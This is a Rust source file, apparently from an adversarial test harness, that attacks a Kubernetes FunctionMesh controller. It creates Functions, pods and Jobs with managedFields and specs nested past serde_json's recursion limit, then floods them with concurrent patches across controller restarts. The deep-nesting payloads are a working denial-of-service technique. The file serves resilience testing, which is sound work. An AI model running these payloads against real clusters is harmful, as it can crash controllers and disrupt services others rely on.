//! Objects nested deeper than a JSON parser's recursion limit.

use std::time::Duration;

use futures::future::join_all;

use crate::generate;
use crate::manifest::UNADMITTED_LABEL;
use crate::target::Target;

const REQUEST_TIMEOUT: Duration = Duration::from_secs(10);
/// 130 is just above the recursion limit of serde_json.
const LEVELS: [usize; 4] = [10, 130, 400, 2000];
const API_VERSION: &str = "compute.functionmesh.io/v1alpha1";

/// Paths of the objects with deep managedFields.
struct Poisoned {
    functions: Vec<String>,
    others: Vec<String>,
}

/// Patches Functions, and creates children, pods and Jobs with the same managedFields.
async fn poison(target: &Target) -> Poisoned {
    let mut poisoned = Poisoned { functions: Vec::new(), others: Vec::new() };
    let functions = target.path("functions");
    for levels in LEVELS {
        let name = format!("poison-{levels}");
        target.create(&target.mallory, &functions, generate::function(&name, "", ""), REQUEST_TIMEOUT).await;
        let path = format!("{functions}/{name}");
        let body = format!(r#"{{"metadata":{{{}}}}}"#, generate::managed_fields(API_VERSION, levels));
        if target.patch(&target.mallory, &path, body).await {
            poisoned.functions.push(path);
        }
        let annotations = format!(r#","annotations":{{"deep":{:?}}}"#, generate::deep(levels.min(200)));
        for object in generate::watched_objects(&target.namespace, &name, levels, &annotations) {
            if target.create(&target.carl, &object.path, object.body, REQUEST_TIMEOUT).await {
                poisoned.others.push(format!("{}/{name}", object.path));
            }
        }
    }
    poisoned
}

/// Patches an annotation of the objects until the attack is over.
async fn annotate(target: &Target, poisoned: &Poisoned) {
    let functions = poisoned.functions.iter().map(|path| (&target.mallory, path));
    let others = poisoned.others.iter().map(|path| (&target.carl, path));
    let all: Vec<_> = functions.chain(others).collect();
    let work = (0..4_usize).map(|worker| {
        let all = &all;
        async move {
            for round in 0_u32.. {
                for (client, path) in all.iter().skip(worker).step_by(4) {
                    if target.is_over() {
                        return;
                    }
                    let patch = format!(r#"{{"metadata":{{"annotations":{{"round":"{worker}-{round}"}}}}}}"#);
                    target.patch(client, path, patch).await;
                }
                if all.is_empty() {
                    return;
                }
            }
        }
    });
    join_all(work).await;
    target.wait_until_over().await;
}

pub(super) async fn live(target: Target) {
    let poisoned = poison(&target).await;
    annotate(&target, &poisoned).await;
}

pub(super) async fn start(target: Target) {
    poison(&target).await;
    target.restart_controller().await;
    target.wait_until_over().await;
    // Delays during the planned restart count only from its end: leave time to measure them.
    tokio::time::sleep(Duration::from_secs(3)).await;
}

/// Objects that only the API server has validated, as without a webhook.
pub(super) async fn unadmitted(target: Target) {
    let label = format!(r#","labels":{{"{UNADMITTED_LABEL}":"true"}}"#);
    let functions = target.path("functions");
    let mut inputs = vec![generate::expensive_list(1_300_000), generate::repeated("[[[]]]", 300_000)];
    for levels in [63, 64, 65, 126, 128, 130, 200, 1000, 2000] {
        inputs.extend([generate::deep(levels), generate::deep_list(levels)]);
    }
    let mut paths = Vec::new();
    for (number, input) in inputs.into_iter().enumerate() {
        let spec = format!(r#","funcConfig":{{"a":{input}}}"#);
        let name = format!("stored-{number}");
        let body = generate::function(&name, &label, &spec);
        if target.create(&target.mallory, &functions, body, REQUEST_TIMEOUT).await {
            paths.push(format!("{functions}/{name}"));
        }
    }
    target.restart_controller().await;
    annotate(&target, &Poisoned { functions: paths, others: Vec::new() }).await;
    tokio::time::sleep(Duration::from_secs(3)).await;
}
